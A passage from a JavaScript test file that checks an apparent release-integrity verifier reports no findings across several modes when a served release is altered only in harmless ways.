  it.each(HARMLESS)('raises no alarm in any mode with %s', async (_what, tamper) => {
    const server = await serve(release, tamper);
    close = server.close;
    for (const mode of [{}, { staticHost: true }, { anySettings: true }]) {
      const options = { address: ORIGIN, inventory: release.inventory, request: server.request, ...mode };
      const { outcome, findings, unchecked } = await verify(options);
      expect({ outcome, findings, unchecked }).toEqual({ outcome: 'same', findings: [], unchecked: [] });
    }
  });
});
